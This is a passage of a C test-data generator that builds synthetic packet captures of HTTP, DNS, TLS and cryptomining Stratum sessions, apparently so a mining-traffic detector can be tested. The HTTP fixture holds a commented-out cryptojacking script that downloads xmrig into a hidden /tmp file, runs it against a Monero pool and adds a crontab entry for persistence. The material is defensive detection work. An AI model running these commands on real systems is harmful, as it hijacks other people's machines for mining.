/*
 * pcapgen.c - writes the synthetic captures kept in pcaps/.
 *
 * `pcapgen SCENARIO OUT.pcap` writes one named scenario; `pcapgen --list`
 * names them all; tests/tools/gen_pcaps.sh regenerates every capture. This
 * file holds the application payloads (HTTP, DNS, TLS, stratum), the layer
 * stacks and the scenarios; packet building and the pcap writer are in
 * pktgen.c. Output is byte-identical on every run and host.
 *
 * The mining scenarios (stratum-v1 onwards) replay whole sessions with the
 * pauses real miners and pools leave, each line in the shape its program
 * writes, and the look-alike protocols (JSON-RPC nodes, Electrum, LSP, NTP)
 * a detector must leave alone.
 *
 * It deliberately does not model real servers beyond what a decoder needs:
 * TLS records after the hellos are filler bytes, hashes, nonces and blobs
 * are stand-in hex, and the payloads are inert (the shell script is all
 * comments).
 */
#include <stdarg.h>
#include <stdio.h>
#include <string.h>

#include "pktgen.h"

/* ---- application payloads ---- */

static const char http_get[] = "GET /xmr.sh HTTP/1.1\r\nHost: 10.0.0.80\r\nUser-Agent: "
                               "curl/7.88.1\r\nAccept: */*\r\n\r\n";

/* Inert: every command is a comment, so the bytes can be shared and scanned safely. */
static const char xmr_sh[] =
    "#!/bin/sh\n"
    "# firedamp test fixture: inert text, every command below is commented out\n"
    "# pkill -f xmrig\n"
    "# curl -s http://10.0.0.80/xmrig -o /tmp/.xm && chmod +x /tmp/.xm\n"
    "# /tmp/.xm -o pool.supportxmr.com:3333 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNg"
    "YeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge --donate-level 1\n"
    "# (crontab -l; echo \"* * * * * /tmp/.xm\") | crontab -\n"
    "exit 0\n";

static void http_response(struct wbuf *w)
{
    char hdr[128];
    int n = snprintf(hdr, sizeof(hdr),
                     "HTTP/1.1 200 OK\r\nContent-Type: text/x-sh\r\nContent-Length: %zu\r\n\r\n",
                     sizeof(xmr_sh) - 1);

    if (n < 0 || (size_t)n >= sizeof(hdr))
        die("http header");
    w->len = 0;
    wb_str(w, hdr);
    wb_str(w, xmr_sh);
}

static void dns_name(struct wbuf *w, const char *name)
{
    while (*name) {
        size_t n = strcspn(name, ".");
        wb_u8(w, (uint32_t)n);
        wb_mem(w, name, n);
        name += n + (name[n] == '.');
    }
    wb_u8(w, 0);
}

#define DNS_ID 0x4d2e

/*
 * A query for pool.supportxmr.com A, or its answer: a CNAME to
 * pool-eu.supportxmr.com (written as "pool-eu" + a pointer into the question)
 * and two A records whose owner name is a pointer to that CNAME target.
 */
static void dns_message(struct wbuf *w, bool response)
{
    static const uint8_t a1[4] = {192, 0, 2, 10}, a2[4] = {192, 0, 2, 11};
    const uint8_t *addrs[2] = {a1, a2};
    size_t rd, target;

    w->len = 0;
    wb_u16(w, DNS_ID);
    wb_u16(w, response ? 0x8180 : 0x0100);
    wb_u16(w, 1);
    wb_u16(w, response ? 3 : 0);
    wb_u16(w, 0);
    wb_u16(w, 0);
    dns_name(w, "pool.supportxmr.com"); /* at offset 12; "supportxmr" at 17 */
    wb_u16(w, 1);
    wb_u16(w, 1);
    if (!response)
        return;
    wb_u16(w, 0xc000 | 12);
    wb_u16(w, 5);
    wb_u16(w, 1);
    wb_u32(w, 300);
    rd = wb_open(w, 2);
    target = w->len;
    wb_u8(w, 7);
    wb_str(w, "pool-eu");
    wb_u16(w, 0xc000 | 17);
    wb_close(w, rd, 2);
    for (int i = 0; i < 2; i++) {
        wb_u16(w, 0xc000 | (uint32_t)target);
        wb_u16(w, 1);
        wb_u16(w, 1);
        wb_u32(w, 60);
        wb_u16(w, 4);
        wb_mem(w, addrs[i], 4);
    }
}

static void dns_exchange(struct gen *g, struct flow *f)
{
    struct wbuf w;

    dns_message(&w, false);
    udp_emit(g, f, 0, w.b, w.len);
    dns_message(&w, true);
    udp_emit(g, f, 1, w.b, w.len);
}

static void tls_ext(struct wbuf *w, uint32_t type, size_t *at)
{
    wb_u16(w, type);
    *at = wb_open(w, 2);
}

/*
 * A TLS 1.3 ClientHello in a TLS 1.0 record, with server_name `sni` unless
 * NULL and ALPN http/1.1 when `alpn`; `seed` varies the random, session id
 * and key share (0 for the captures that predate it). JA3 skips the GREASE
 * suite, so with both the JA3 string is
 * 771,4865-4866-4867-49195-49199,0-11-10-16-13-43-51,29-23-24,0.
 */
static void tls_client_hello_ex(struct wbuf *w, const char *sni, bool alpn, uint32_t seed)
{
    static const uint16_t suites[] = {0x0a0a, 0x1301, 0x1302, 0x1303, 0xc02b, 0xc02f};
    static const uint16_t sigalgs[] = {0x0403, 0x0804, 0x0401, 0x0503, 0x0805, 0x0501};
    size_t rec, hs, l, exts, e, inner;

    w->len = 0;
    wb_u8(w, 0x16);
    wb_u16(w, 0x0301);
    rec = wb_open(w, 2);
    wb_u8(w, 1);
    hs = wb_open(w, 3);
    wb_u16(w, 0x0303);
    wb_noise(w, 32, 0xc11e ^ seed);
    wb_u8(w, 32);
    wb_noise(w, 32, 0x5e55 ^ seed);
    l = wb_open(w, 2);
    for (size_t i = 0; i < sizeof(suites) / sizeof(suites[0]); i++)
        wb_u16(w, suites[i]);
    wb_close(w, l, 2);
    wb_u8(w, 1);
    wb_u8(w, 0);
    exts = wb_open(w, 2);

    if (sni) {
        tls_ext(w, 0, &e); /* server_name */
        inner = wb_open(w, 2);
        wb_u8(w, 0);
        wb_u16(w, (uint32_t)strlen(sni));
        wb_str(w, sni);
        wb_close(w, inner, 2);
        wb_close(w, e, 2);
    }

    tls_ext(w, 11, &e); /* ec_point_formats: uncompressed */
    wb_u8(w, 1);
    wb_u8(w, 0);
    wb_close(w, e, 2);

    tls_ext(w, 10, &e); /* supported_groups: x25519, secp256r1, secp384r1 */
    wb_u16(w, 6);
    wb_u16(w, 0x001d);
    wb_u16(w, 0x0017);
    wb_u16(w, 0x0018);
    wb_close(w, e, 2);

    if (alpn) {
        tls_ext(w, 16, &e); /* ALPN */
        inner = wb_open(w, 2);
        wb_u8(w, 8);
        wb_str(w, "http/1.1");
        wb_close(w, inner, 2);
        wb_close(w, e, 2);
    }

    tls_ext(w, 13, &e); /* signature_algorithms */
    wb_u16(w, sizeof(sigalgs));
    for (size_t i = 0; i < sizeof(sigalgs) / sizeof(sigalgs[0]); i++)
        wb_u16(w, sigalgs[i]);
    wb_close(w, e, 2);

    tls_ext(w, 43, &e); /* supported_versions: 1.3, 1.2 */
    wb_u8(w, 4);
    wb_u16(w, 0x0304);
    wb_u16(w, 0x0303);
    wb_close(w, e, 2);

    tls_ext(w, 51, &e); /* key_share: x25519 */
    inner = wb_open(w, 2);
    wb_u16(w, 0x001d);
    wb_u16(w, 32);
    wb_noise(w, 32, 0x6b65 ^ seed);
    wb_close(w, inner, 2);
    wb_close(w, e, 2);

    wb_close(w, exts, 2);
    wb_close(w, hs, 3);
    wb_close(w, rec, 2);
}

static void tls_client_hello(struct wbuf *w)
{
    tls_client_hello_ex(w, "xmr-eu1.nanopool.org", true, 0);
}

static void tls_record(struct wbuf *w, uint32_t type, size_t len, uint32_t seed)
{
    wb_u8(w, type);
    wb_u16(w, 0x0303);
    wb_u16(w, (uint32_t)len);
    if (type == 0x14)
        wb_u8(w, 1);
    else
        wb_noise(w, len, seed);
}

/*
 * ServerHello choosing TLS 1.3 and TLS_AES_128_GCM_SHA256, then CCS and
 * encrypted flight; `seed` as the ClientHello's, whose session id it echoes.
 */
static void tls_server_flight_ex(struct wbuf *w, uint32_t seed)
{
    size_t rec, hs, exts, e;

    w->len = 0;
    wb_u8(w, 0x16);
    wb_u16(w, 0x0303);
    rec = wb_open(w, 2);
    wb_u8(w, 2);
    hs = wb_open(w, 3);
    wb_u16(w, 0x0303);
    wb_noise(w, 32, 0x5e12 ^ seed);
    wb_u8(w, 32);
    wb_noise(w, 32, 0x5e55 ^ seed); /* echoes the client's legacy session id */
    wb_u16(w, 0x1301);
    wb_u8(w, 0);
    exts = wb_open(w, 2);
    tls_ext(w, 43, &e);
    wb_u16(w, 0x0304);
    wb_close(w, e, 2);
    tls_ext(w, 51, &e);
    wb_u16(w, 0x001d);
    wb_u16(w, 32);
    wb_noise(w, 32, 0x5eb7 ^ seed);
    wb_close(w, e, 2);
    wb_close(w, exts, 2);
    wb_close(w, hs, 3);
    wb_close(w, rec, 2);
    tls_record(w, 0x14, 1, 0);
    tls_record(w, 0x17, 412, 0xe1 ^ seed);
}

static void tls_server_flight(struct wbuf *w)
{
    tls_server_flight_ex(w, 0);
}

/*
 * The stacks, outermost layer first. S() counts the layers itself so a stack
 * cannot say it has more layers than it lists.
 */
// clang-format off
#define L(kind, id, type, flags) {(kind), (id), (type), (flags)}
#define S(name, linktype, ...) \
    static const struct stack name = {(linktype), \
        sizeof((struct layer[]){__VA_ARGS__}) / sizeof(struct layer), {__VA_ARGS__}}
// clang-format on
#define OUTER L(LK_ETH, 0, 0, LF_TUNNEL), L(LK_IPV4, 0, 0, 0)
S(st_eth, LINKTYPE_ETHER, L(LK_ETH, 0, 0, 0));
S(st_gre, LINKTYPE_ETHER, OUTER, L(LK_GRE, 42, 0, LF_GRE_KEY));
S(st_vlan, LINKTYPE_ETHER, L(LK_ETH, 0, 0, 0), L(LK_VLAN, 100, ETH_8021Q, 0));
S(st_qinq, LINKTYPE_ETHER, L(LK_ETH, 0, 0, 0), L(LK_VLAN, 200, ETH_8021AD, 0),
  L(LK_VLAN, 300, ETH_8021Q, 0));
S(st_mpls, LINKTYPE_ETHER, L(LK_ETH, 0, 0, 0), L(LK_MPLS, 1000, 0, 0), L(LK_MPLS, 2001, 0, 0));
S(st_gre_eth, LINKTYPE_ETHER, OUTER, L(LK_GRE, 0, 0, 0), L(LK_ETH, 0, 0, 0));
S(st_erspan2, LINKTYPE_ETHER, OUTER, L(LK_GRE, 0, 0, LF_GRE_SEQ), L(LK_ERSPAN2, 7, 0, 0),
  L(LK_ETH, 0, 0, 0));
S(st_erspan3, LINKTYPE_ETHER, OUTER, L(LK_GRE, 0, 0, LF_GRE_SEQ), L(LK_ERSPAN3, 9, 0, 0),
  L(LK_ETH, 0, 0, 0));
S(st_vxlan, LINKTYPE_ETHER, OUTER, L(LK_UDP, 0, PORT_VXLAN, 0), L(LK_VXLAN, 5001, 0, 0),
  L(LK_ETH, 0, 0, 0));
S(st_vxlan_vlan, LINKTYPE_ETHER, OUTER, L(LK_UDP, 0, PORT_VXLAN, 0), L(LK_VXLAN, 5001, 0, 0),
  L(LK_ETH, 0, 0, 0), L(LK_VLAN, 10, ETH_8021Q, 0));
S(st_geneve, LINKTYPE_ETHER, OUTER, L(LK_UDP, 0, PORT_GENEVE, 0), L(LK_GENEVE, 7001, 0, 0),
  L(LK_ETH, 0, 0, 0));
S(st_sll, LINKTYPE_SLL, L(LK_SLL, 0, 0, 0));
S(st_sll2, LINKTYPE_SLL2, L(LK_SLL2, 0, 0, 0));
S(st_null, LINKTYPE_NULL, L(LK_NULL, 0, 0, 0));
static const struct stack st_raw = {.linktype = LINKTYPE_RAW}; /* no layer: starts at IP */

/* ---- scenarios ---- */

static const char stratum_login[] =
    "{\"id\":1,\"method\":\"login\",\"params\":{\"login\":\"4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYf"
    "pAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge\",\"pass\":\"x\",\"agent\":\"XM"
    "Rig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0\",\"algo\":[\"rx/0\"]}}\n";

/* The pool's answer: a job whose blob is a 76-byte Monero hashing blob, as hex. */
static const char stratum_result[] =
    "{\"id\":1,\"jsonrpc\":\"2.0\",\"error\":null,\"result\":{\"id\":\"a1b2c3d4e5f60718\","
    "\"job\":{\"blob\":\""
    "1010e4c3b5a006c0a1f2e3d4c5b6a798817263544536271809101112131415161718192021222300000000"
    "a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f80912a\","
    "\"job_id\":\"r4nd0mj0b1d00001\",\"target\":\"b88d0600\",\"algo\":\"rx/0\","
    "\"height\":2975210,"
    "\"seed_hash\":\"0c8f2a4d6e1b3c5a7f9e0d2c4b6a8f1e3d5c7b9a0f2e4d6c8b0a1f3e5d7c9b1a\"},"
    "\"extensions\":[\"algo\",\"nicehash\",\"connect\",\"tls\",\"keepalive\"],"
    "\"status\":\"OK\"}}\n";

static void http_session(struct gen *g, const struct seg *segs, size_t nsegs)
{
    struct tcp_conn c;
    struct wbuf resp;
    struct step steps[2] = {STEP(0, http_get), {1, resp.b, 0, segs, nsegs}};
    struct session_opts o = {true, true};

    http_response(&resp);
    steps[1].len = resp.len;
    tcp_conn_init(&c, 4, V4(10, 0, 0, 5), 43210, V4(10, 0, 0, 80), 80);
    session_run(g, &c, steps, 2, &o);
}

static void run_http_plain(struct gen *g)
{
    http_session(g, NULL, 0);
}

/* Response cut in 4; sent 1,3,2,4, then 2 again, then a segment overlapping 2 and 3. */
static void run_tcp_ooo(struct gen *g)
{
    struct wbuf resp;
    size_t q;

    http_response(&resp);
    q = resp.len / 4;
    {
        const struct seg segs[] = {
            {0, q}, {2 * q, q}, {q, q}, {3 * q, resp.len - 3 * q}, {q, q}, {q + q / 2, q},
        };
        http_session(g, segs, sizeof(segs) / sizeof(segs[0]));
    }
}

static void run_dns(struct gen *g)
{
    struct flow f;

    flow_init(&f, 4, V4(10, 0, 0, 5), 53000, V4(10, 0, 0, 53), 53);
    dns_exchange(g, &f);
}

/* The TLS session; `cut` lists the ClientHello's segments (NULL: MSS-sized). */
static void tls_session(struct gen *g, const size_t *cut, size_t ncut)
{
    struct tcp_conn c;
    struct wbuf ch, sf, cf, ca, sa;
    struct seg split[8];
    struct session_opts o = {true, true};

    tls_client_hello(&ch);
    tls_server_flight(&sf);
    cf.len = 0;
    tls_record(&cf, 0x14, 1, 0);
    tls_record(&cf, 0x17, 53, 0xcf); /* client Finished */
    ca.len = 0;
    tls_record(&ca, 0x17, 96, 0xca);
    sa.len = 0;
    tls_record(&sa, 0x17, 160, 0x5a);
    tls_record(&sa, 0x17, 24, 0x5b);
    /* cut[] holds (offset, length) pairs; a length of 0 means "to the end" */
    for (size_t i = 0; i < ncut && i < 8; i++)
        split[i] = (struct seg){cut[2 * i], cut[2 * i + 1] ? cut[2 * i + 1] : ch.len - cut[2 * i]};
    {
        const struct step steps[] = {
            {0, ch.b, ch.len, ncut ? split : NULL, ncut},
            {1, sf.b, sf.len, NULL, 0},
            {0, cf.b, cf.len, NULL, 0},
            {0, ca.b, ca.len, NULL, 0},
            {1, sa.b, sa.len, NULL, 0},
        };
        tcp_conn_init(&c, 4, V4(10, 0, 0, 5), 50001, V4(203, 0, 113, 7), 443);
        session_run(g, &c, steps, sizeof(steps) / sizeof(steps[0]), &o);
    }
}

static void run_tls(struct gen *g)
{
    tls_session(g, NULL, 0);
}

static void run_tls_split(struct gen *g)
{
    static const size_t cut[] = {0, 60, 60, 0};

    tls_session(g, cut, 2);
}

/* ClientHello in 3 segments sent 3, 1, 2, then 1 again (retransmission). */
static void run_tls_ooo(struct gen *g)
{
    static const size_t cut[] = {100, 0, 0, 50, 50, 50, 0, 50};

    tls_session(g, cut, 4);
}

static void run_midstream(struct gen *g)
{
    struct tcp_conn c;
    const struct step steps[] = {STEP(0, stratum_login), STEP(1, stratum_result)};
    struct session_opts o = {false, false};

    tcp_conn_init(&c, 4, V4(10, 0, 0, 5), 40000, V4(10, 0, 0, 9), 3333);
    session_run(g, &c, steps, 2, &o);
}

/* The encapsulation captures: the DNS exchange, then a short TCP session. */
static void mix(struct gen *g, int family)
{
    struct flow dns;
    struct tcp_conn c;
    const struct step steps[] = {STEP(0, "hello\n"), STEP(1, "world\n")};
    struct session_opts o = {true, true};

    if (family == 4) {
        flow_init(&dns, 4, V4(10, 0, 0, 5), 53000, V4(10, 0, 0, 53), 53);
        tcp_conn_init(&c, 4, V4(10, 0, 0, 5), 43300, V4(10, 0, 0, 80), 7000);
    } else {
        flow_init(&dns, 6, V6DOC(5), 53000, V6DOC(0x53), 53);
        tcp_conn_init(&c, 6, V6DOC(5), 43300, V6DOC(0x80), 7000);
        c.f.hbh = true;
    }
    dns_exchange(g, &dns);
    session_run(g, &c, steps, 2, &o);
}

static void run_mix4(struct gen *g)
{
    mix(g, 4);
}

static void run_mix6(struct gen *g)
{
    mix(g, 6);
}

static void run_fragments(struct gen *g)
{
    struct flow f;
    struct wbuf w = {.len = 0};
    char line[64];

    for (int i = 0; w.len < 2000; i++) {
        int n = snprintf(line, sizeof(line), "firedamp fragment test line %04d\n", i);
        wb_mem(&w, line, (size_t)n);
    }
    flow_init(&f, 4, V4(10, 0, 0, 5), 40500, V4(10, 0, 0, 9), 9999);
    udp_emit_frags(g, &f, 0, w.b, w.len, 1480);
}

/*
 * Frames the decoder must reject (and count), then an ARP frame and a pair of
 * tiny IPv4 fragments: nothing in here should produce an event.
 */
static void run_truncated(struct gen *g)
{
    struct tcp_conn c;
    struct flow f6;
    struct pkt p;
    struct wbuf w;
    struct pktinfo pi;
    size_t full;

    tcp_conn_init(&c, 4, V4(10, 0, 0, 5), 43210, V4(10, 0, 0, 80), 80);
    flow_init(&f6, 6, V6DOC(5), 43210, V6DOC(0x80), 80);
    pi = (struct pktinfo){0, &c.f.ep[0], &c.f.ep[1], c.f.hash, 0};
    dns_message(&w, false);

    /* 1: an Ethernet header announcing IPv4 and nothing after it, as received */
    pkt_init(&p, NULL, 0);
    p.ethertype = ETH_IPV4;
    stack_apply(g, &p, &pi);
    gen_write(g, &p, 14, 14);

    /* 2: IPv4 header cut at 12 bytes by a short snaplen (caplen < wire length) */
    pkt_init(&p, w.b, w.len);
    push_udp(&p, 53000, 53);
    flow_frame(g, &c.f, 0, &p);
    gen_write(g, &p, 14 + 12, pkt_len(&p));

    /* 3: TCP header cut at 10 bytes on the wire: the IPv4 total length claims 52 */
    pkt_init(&p, NULL, 0);
    push_tcp(&p, 43210, 80, c.nxt[0], 0, TCP_SYN);
    flow_frame(g, &c.f, 0, &p);
    gen_write(g, &p, 14 + 20 + 10, 14 + 20 + 10);

    /* 4: 802.1Q tag cut after the TCI */
    pkt_init(&p, NULL, 0);
    p.ethertype = ETH_IPV4;
    push_vlan(&p, ETH_8021Q, 100);
    push_eth(&p, c.f.ep[1].mac, c.f.ep[0].mac);
    gen_write(g, &p, 16, 16);

    /* 5: IPv6 header cut at 30 of 40 bytes */
    pkt_init(&p, NULL, 0);
    push_tcp(&p, 43210, 80, 1, 0, TCP_SYN);
    flow_frame(g, &f6, 0, &p);
    gen_write(g, &p, 14 + 30, 14 + 30);

    /* 6: VXLAN header cut at 4 of 8 bytes */
    g->stack = &st_vxlan;
    pkt_init(&p, NULL, 0);
    push_tcp(&p, 43210, 80, c.nxt[0], 0, TCP_SYN);
    flow_frame(g, &c.f, 0, &p);
    full = pkt_len(&p);
    gen_write(g, &p, 14 + 20 + 8 + 4, full);

    /* 7: GRE header with the key flag set, cut before the key */
    g->stack = &st_gre;
    pkt_init(&p, NULL, 0);
    push_tcp(&p, 43210, 80, c.nxt[0], 0, TCP_SYN);
    flow_frame(g, &c.f, 0, &p);
    gen_write(g, &p, 14 + 20 + 6, 14 + 20 + 6);
    g->stack = &st_eth;

    /* 8: ARP who-has 10.0.0.80 tell 10.0.0.5 */
    {
        static const uint8_t bcast[6] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff};
        struct wbuf a = {.len = 0};

        wb_u16(&a, 1);
        wb_u16(&a, ETH_IPV4);
        wb_u8(&a, 6);
        wb_u8(&a, 4);
        wb_u16(&a, 1);
        wb_mem(&a, c.f.ep[0].mac, 6);
        wb_mem(&a, c.f.ep[0].ip, 4);
        memset(wb_room(&a, 6), 0, 6);
        wb_mem(&a, c.f.ep[1].ip, 4);
        pkt_init(&p, a.b, a.len);
        p.ethertype = ETH_ARP;
        push_eth(&p, bcast, c.f.ep[0].mac);
        gen_write(g, &p, pkt_len(&p), pkt_len(&p));
    }

    /* 9, 10: the DNS query in two IPv4 fragments, the first only 16 bytes of payload */
    {
        struct flow f;

        flow_init(&f, 4, V4(10, 0, 0, 5), 53000, V4(10, 0, 0, 53), 53);
        udp_emit_frags(g, &f, 0, w.b, w.len, 16);
    }
}

/* ---- mining sessions, their look-alikes, and the helpers they share ---- */

#define C2S 0 /* client to server (the miner, the flow's opener) */
#define S2C 1

/* One application message (or several coalesced) sent `wait_ms` after the previous packet. */
struct msg {
    unsigned wait_ms;
    int dir;
    const char *text;
    const struct seg *segs; /* NULL: cut at the MSS */
    size_t nsegs;
};

/*
 * Lines are built at run time from a fixed format and deterministic hex, in a
 * ring of buffers that outlives one scenario (no scenario needs more).
 */
#define FMT_RING 64
#define FMT_CAP  2048
#define HEX_RING 16

static const char *fmt(const char *f, ...) __attribute__((format(printf, 1, 2)));

static const char *fmt(const char *f, ...)
{
    static char ring[FMT_RING][FMT_CAP];
    static unsigned next;
    char *b = ring[next++ % FMT_RING];
    va_list ap;
    int n;

    va_start(ap, f);
    n = vsnprintf(b, FMT_CAP, f, ap);
    va_end(ap);
    if (n < 0 || n >= FMT_CAP)
        die("fmt: line too long");
    return b;
}

/* nbytes of stand-in random data as lowercase hex (a hash, a nonce, a blob). */
static const char *hexs(uint32_t seed, size_t nbytes)
{
    static char ring[HEX_RING][512];
    static unsigned next;
    char *b = ring[next++ % HEX_RING];
    struct wbuf w = {.len = 0};

    if (2 * nbytes >= sizeof(ring[0]))
        die("hexs: too long");
    wb_noise(&w, nbytes, seed);
    for (size_t i = 0; i < nbytes; i++)
        snprintf(b + 2 * i, 3, "%02x", w.b[i]);
    return b;
}

/* Handshake, the messages in order with their pauses, then FIN/ACK both ways. */
static void play(struct gen *g, struct tcp_conn *c, const struct msg *m, size_t n,
                 unsigned close_wait_ms)
{
    const struct session_opts open = {true, false}, mid = {false, false}, fin = {false, true};

    session_run(g, c, NULL, 0, &open);
    for (size_t i = 0; i < n; i++) {
        const struct step s = {m[i].dir, m[i].text, strlen(m[i].text), m[i].segs, m[i].nsegs};

        g->ts_us += (uint64_t)m[i].wait_ms * 1000;
        session_run(g, c, &s, 1, &mid);
    }
    g->ts_us += (uint64_t)close_wait_ms * 1000;
    session_run(g, c, NULL, 0, &fin);
}

/* A message array entry; MS() with a segment list. */
#define M(wait, dir, text)             \
    {                                  \
        (wait), (dir), (text), NULL, 0 \
    }
#define MS(wait, dir, text, segs, n)       \
    {                                      \
        (wait), (dir), (text), (segs), (n) \
    }
#define NMSG(a) (sizeof(a) / sizeof((a)[0]))

/* A DNS query for `name` A (addr NULL), or its answer: one A record, TTL ttl. */
static void dns_a(struct wbuf *w, uint32_t id, const char *name, const uint8_t *addr, uint32_t ttl)
{
    w->len = 0;
    wb_u16(w, id);
    wb_u16(w, addr ? 0x8180 : 0x0100);
    wb_u16(w, 1);
    wb_u16(w, addr ? 1 : 0);
    wb_u16(w, 0);
    wb_u16(w, 0);
    dns_name(w, name);
    wb_u16(w, 1);
    wb_u16(w, 1);
    if (!addr)
        return;
    wb_u16(w, 0xc000 | 12);
    wb_u16(w, 1);
    wb_u16(w, 1);
    wb_u32(w, ttl);
    wb_u16(w, 4);
    wb_mem(w, addr, 4);
}

/* The client's resolver 10.0.0.53 answers `name` with addr, 12 ms later. */
static void dns_lookup(struct gen *g, const uint8_t *cip, uint16_t cport, uint32_t id,
                       const char *name, const uint8_t *addr)
{
    struct flow f;
    struct wbuf w;

    flow_init(&f, 4, cip, cport, V4(10, 0, 0, 53), 53);
    dns_a(&w, id, name, NULL, 0);
    udp_emit(g, &f, 0, w.b, w.len);
    g->ts_us += 11000;
    dns_a(&w, id, name, addr, 300);
    udp_emit(g, &f, 1, w.b, w.len);
}

/* An HTTP/1.1 message: `head` (start line and headers, each ending CRLF), Content-Length, body. */
static const char *http_msg(const char *head, const char *body)
{
    return fmt("%sContent-Length: %zu\r\n\r\n%s", head, strlen(body), body);
}

/* ---- Stratum v1, cgminer to a Bitcoin pool ---- */

#define BTC_USER "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4.worker1"

/* mining.notify: prevhash, a coinbase around extranonce1+2, 3 merkle branches. */
static const char *v1_notify(const char *job, uint32_t block, const char *ntime, bool clean)
{
    return fmt("{\"id\":null,\"method\":\"mining.notify\",\"params\":[\"%s\",\"%s00000000\","
               "\"01000000010000000000000000000000000000000000000000000000000000000000000000ffff"
               "ffff4b03a92b09fabe6d6d%s0100000000000000\",\"%s0d2f736c7573682f0000000002%s"
               "1976a914%s88ac00000000\",[\"%s\",\"%s\",\"%s\"],\"20000000\",\"1715a35c\",\"%s\","
               "%s]}\n",
               job, hexs(block, 28), hexs(block + 1, 32), hexs(block + 2, 12), hexs(block + 3, 8),
               hexs(block + 4, 20), hexs(block + 5, 32), hexs(block + 6, 32), hexs(block + 7, 32),
               ntime, clean ? "true" : "false");
}

static const char *v1_submit(unsigned id, const char *job, const char *en2, const char *ntime,
                             const char *nonce)
{
    /* cgminer's own layout: params first, with spaces */
    return fmt("{\"params\": [\"" BTC_USER "\", \"%s\", \"%s\", \"%s\", \"%s\"], \"id\": %u, "
               "\"method\": \"mining.submit\"}\n",
               job, en2, ntime, nonce, id);
}

static void run_stratum_v1(struct gen *g)
{
    struct tcp_conn c;
    const struct msg m[] = {
        M(0, C2S,
          "{\"id\": 1, \"method\": \"mining.subscribe\", \"params\": [\"cgminer/4.12.1\"]}\n"),
        M(38, S2C,
          "{\"id\":1,\"result\":[[[\"mining.set_difficulty\",\"731ec5e0649606ff\"],[\"mining.notify\","
          "\"731ec5e0649606ff\"]],\"e8a1f0c2\",4],\"error\":null}\n"),
        M(2, C2S,
          "{\"id\": 2, \"method\": \"mining.authorize\", \"params\": [\"" BTC_USER "\", \"x\"]}\n"),
        M(41, S2C, "{\"id\":2,\"result\":true,\"error\":null}\n"),
        M(1, S2C,
          fmt("{\"id\":null,\"method\":\"mining.set_difficulty\",\"params\":[8192]}\n%s",
              v1_notify("1a2f", 0x100, "5dad6a06", true))),
        M(9750, C2S, v1_submit(3, "1a2f", "00000000", "5dad6a06", "7b3e91c4")),
        M(45, S2C, "{\"id\":3,\"result\":true,\"error\":null}\n"),
        M(20200, S2C, v1_notify("1a30", 0x100, "5dad6a24", false)),
        M(12800, C2S, v1_submit(4, "1a30", "00000001", "5dad6a24", "e41c07a9")),
        M(44, S2C, "{\"id\":4,\"result\":true,\"error\":null}\n"),
        M(17100, S2C, v1_notify("1a31", 0x200, "5dad6a42", true)),
        M(6900, C2S, v1_submit(5, "1a31", "00000002", "5dad6a42", "0c5d88f2")),
        M(47, S2C, "{\"id\":5,\"result\":null,\"error\":[23,\"Low difficulty share\",null]}\n"),
    };

    tcp_conn_init(&c, 4, V4(10, 0, 0, 21), 49712, V4(198, 51, 100, 10), 3333);
    play(g, &c, m, NMSG(m), 8000);
}

/* ---- CryptoNote, XMRig to a Monero pool ---- */

#define XMR_WALLET                                                                                \
    "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv268" \
    "4Rge"
#define XMRIG_AGENT "XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0"
/*
 * XMRig sends every algorithm its enabled backends have a profile for, the
 * pool's configured one swapped to the front (Network::onLogin). With the
 * stock CPU profiles and "algo": "rx/0" that is the whole list, rx/0 and
 * cn/1 exchanged; a config holding only the "rx" profile offers RandomX alone.
 */
#define XMRIG_ALGOS_ALL                                                                           \
    "[\"rx/0\",\"cn/2\",\"cn/r\",\"cn/fast\",\"cn/half\",\"cn/xao\",\"cn/rto\",\"cn/rwz\","       \
    "\"cn/zls\",\"cn/double\",\"cn/ccx\",\"cn-lite/1\",\"cn-heavy/0\",\"cn-heavy/tube\","         \
    "\"cn-heavy/xhv\",\"cn-pico\",\"cn-pico/tlo\",\"cn/upx2\",\"cn/1\",\"rx/wow\",\"rx/arq\","    \
    "\"rx/graft\",\"rx/sfx\",\"rx/keva\",\"argon2/chukwa\",\"argon2/chukwav2\",\"argon2/ninja\"," \
    "\"ghostrider\"]"
#define XMRIG_ALGOS_RX "[\"rx/0\",\"rx/wow\",\"rx/arq\",\"rx/graft\",\"rx/sfx\",\"rx/keva\"]"
#define XMR_SEED       "0c8f2a4d6e1b3c5a7f9e0d2c4b6a8f1e3d5c7b9a0f2e4d6c8b0a1f3e5d7c9b1a"

/* A 76-byte Monero hashing blob: versions, timestamp, prev id, zero nonce, tree root, tx count. */
static const char *xmr_blob(uint32_t seed)
{
    return fmt("1010e4c3b5a006%s00000000%s2a", hexs(seed, 32), hexs(seed + 1, 32));
}

static const char *xmr_job_params(uint32_t seed, const char *job_id, const char *target,
                                  unsigned height)
{
    return fmt("{\"blob\":\"%s\",\"job_id\":\"%s\",\"target\":\"%s\",\"algo\":\"rx/0\","
               "\"height\":%u,\"seed_hash\":\"" XMR_SEED "\"}",
               xmr_blob(seed), job_id, target, height);
}

/* XMRig's login, its compact key order; rigid only when configured. */
static const char *xmr_login(const char *rigid, const char *algos)
{
    return fmt(
        "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"" XMR_WALLET
        "\",\"pass\":\"x\",\"agent\":\"" XMRIG_AGENT "\"%s%s%s,\"algo\":%s}}\n",
        rigid ? ",\"rigid\":\"" : "", rigid ? rigid : "", rigid ? "\"" : "", algos);
}

static const char *xmr_login_result(const char *sess, const char *job)
{
    return fmt("{\"id\":1,\"jsonrpc\":\"2.0\",\"error\":null,\"result\":{\"id\":\"%s\",\"job\":%s,"
               "\"extensions\":[\"algo\",\"nicehash\",\"connect\",\"tls\",\"keepalive\"],"
               "\"status\":\"OK\"}}\n",
